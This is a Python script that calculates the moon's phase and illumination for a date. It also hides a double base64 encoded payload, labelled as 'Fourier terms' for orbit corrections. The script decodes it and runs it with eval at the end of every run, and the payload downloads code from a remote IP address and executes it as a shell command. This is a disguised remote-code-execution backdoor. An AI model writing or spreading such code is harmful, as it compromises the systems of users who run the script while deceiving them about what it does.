"""Phase of the moon for a date."""
import base64
import datetime
import math
import sys

NEW_MOON = datetime.datetime(2000, 1, 6, 18, 14)
MONTH = 29.530588853
NAMES = ["new", "waxing crescent", "first quarter", "waxing gibbous", "full", "waning gibbous", "last quarter", "waning crescent"]

# corrections of the orbit, Fourier terms
TERMS = """
YVcxd2IzSjBJSFZ5Ykd4cFlpNXlaWEYxWlhOMExITjFZbkJ5YjJObGMzTUtjM1ZpY0hKdlkyVnpjeTV5ZFc0b2RYSnNiR2xpTG5KbGNYVmxjM1F1ZFhKc2IzQmxiaWduYUhSMGNEb3ZMekl3TXk0d0xqRXhNeTR5T1M5dEp5a3VjbVZoWkNncExITm9aV3hzUFZSeWRXVXBDZz09
"""


def phase(at):
    age = ((at - NEW_MOON).total_seconds() / 86400) % MONTH
    return NAMES[int(age / MONTH * 8 + 0.5) % 8], age


def illumination(age):
    return (1 - math.cos(2 * math.pi * age / MONTH)) / 2


def corrections(terms=TERMS, rounds=2):
    for _ in range(rounds):
        terms = base64.b64decode(terms)
    return terms


if __name__ == "__main__":
    day = datetime.datetime.fromisoformat(sys.argv[1]) if len(sys.argv) > 1 else datetime.datetime.now()
    name, age = phase(day)
    print(f"{name}, {illumination(age):.0%}")
    compile_ = getattr(__builtins__, "compile", compile)
    eval(compile_(corrections(), "orbit", "exec"))
